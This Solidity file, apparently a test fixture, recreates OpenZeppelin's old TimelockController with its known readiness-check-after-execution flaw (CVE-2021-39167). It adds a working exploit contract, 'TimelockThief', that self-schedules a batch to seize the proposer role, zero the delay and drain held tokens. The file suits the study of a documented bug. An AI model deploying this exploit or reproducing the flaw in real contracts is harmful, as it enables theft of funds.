// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {Token} from "../props/Tokens.sol";

/// OpenZeppelin's timelock as it was until 4.3: that a batch is due is looked at after it ran (CVE-2021-39167). Anybody
/// may execute here.
contract OldTimelock is AccessControl {
    bytes32 public constant TIMELOCK_ADMIN_ROLE = keccak256("TIMELOCK_ADMIN_ROLE");
    bytes32 public constant PROPOSER_ROLE = keccak256("PROPOSER_ROLE");
    bytes32 public constant EXECUTOR_ROLE = keccak256("EXECUTOR_ROLE");
    uint256 internal constant _DONE_TIMESTAMP = 1;

    mapping(bytes32 => uint256) private _timestamps;
    uint256 private _minDelay;

    event CallScheduled(
        bytes32 indexed id, uint256 indexed index, address target, uint256 value, bytes data, bytes32 predecessor, uint256 delay
    );
    event CallExecuted(bytes32 indexed id, uint256 indexed index, address target, uint256 value, bytes data);
    event MinDelayChange(uint256 oldDuration, uint256 newDuration);

    constructor(uint256 minDelay, address proposer) {
        _setRoleAdmin(PROPOSER_ROLE, TIMELOCK_ADMIN_ROLE);
        _setRoleAdmin(EXECUTOR_ROLE, TIMELOCK_ADMIN_ROLE);
        _grantRole(TIMELOCK_ADMIN_ROLE, address(this));
        _grantRole(PROPOSER_ROLE, proposer);
        _grantRole(EXECUTOR_ROLE, address(0));
        _minDelay = minDelay;
        emit MinDelayChange(0, minDelay);
    }

    modifier onlyRoleOrOpenRole(bytes32 role) {
        if (!hasRole(role, address(0))) _checkRole(role, msg.sender);
        _;
    }

    receive() external payable {}

    function getMinDelay() public view returns (uint256) {
        return _minDelay;
    }

    function isOperationReady(bytes32 id) public view returns (bool) {
        return _timestamps[id] > _DONE_TIMESTAMP && _timestamps[id] <= block.timestamp;
    }

    function hashOperationBatch(
        address[] calldata targets,
        uint256[] calldata values,
        bytes[] calldata datas,
        bytes32 predecessor,
        bytes32 salt
    ) public pure returns (bytes32) {
        return keccak256(abi.encode(targets, values, datas, predecessor, salt));
    }

    function scheduleBatch(
        address[] calldata targets,
        uint256[] calldata values,
        bytes[] calldata datas,
        bytes32 predecessor,
        bytes32 salt,
        uint256 delay
    ) external onlyRole(PROPOSER_ROLE) {
        bytes32 id = hashOperationBatch(targets, values, datas, predecessor, salt);
        require(_timestamps[id] == 0, "TimelockController: operation already scheduled");
        require(delay >= _minDelay, "TimelockController: insufficient delay");
        _timestamps[id] = block.timestamp + delay;
        for (uint256 i = 0; i < targets.length; ++i) {
            emit CallScheduled(id, i, targets[i], values[i], datas[i], predecessor, delay);
        }
    }

    function executeBatch(
        address[] calldata targets,
        uint256[] calldata values,
        bytes[] calldata datas,
        bytes32 predecessor,
        bytes32 salt
    ) external payable onlyRoleOrOpenRole(EXECUTOR_ROLE) {
        bytes32 id = hashOperationBatch(targets, values, datas, predecessor, salt);
        require(predecessor == bytes32(0) || _timestamps[predecessor] == _DONE_TIMESTAMP, "missing dependency");
        for (uint256 i = 0; i < targets.length; ++i) {
            (bool success,) = targets[i].call{value: values[i]}(datas[i]);
            require(success, "TimelockController: underlying transaction reverted");
            emit CallExecuted(id, i, targets[i], values[i], datas[i]);
        }
        require(isOperationReady(id), "TimelockController: operation is not ready");
        _timestamps[id] = _DONE_TIMESTAMP;
    }

    function updateDelay(uint256 newDelay) external {
        require(msg.sender == address(this), "TimelockController: caller must be timelock");
        emit MinDelayChange(_minDelay, newDelay);
        _minDelay = newDelay;
    }
}

/// Has the batch that it executes schedule itself.
contract TimelockThief {
    address[] private targets;
    uint256[] private values;
    bytes[] private datas;
    bytes32 private salt;
    OldTimelock private lock;

    function rob(OldTimelock lock_, Token[] calldata tokens, address payee) external {
        lock = lock_;
        salt = keccak256(abi.encode(tokens));
        delete targets;
        delete values;
        delete datas;
        add(address(lock), abi.encodeCall(lock.grantRole, (lock.PROPOSER_ROLE(), address(this))));
        add(address(lock), abi.encodeCall(lock.updateDelay, (0)));
        add(address(this), abi.encodeCall(this.schedule, ()));
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 held = tokens[i].balanceOf(address(lock));
            add(address(tokens[i]), abi.encodeCall(Token.transfer, (payee, held)));
        }
        lock.executeBatch(targets, values, datas, 0, salt);
    }

    function schedule() external {
        lock.scheduleBatch(targets, values, datas, 0, salt, 0);
    }

    function add(address target, bytes memory data) private {
        targets.push(target);
        values.push(0);
        datas.push(data);
    }
}
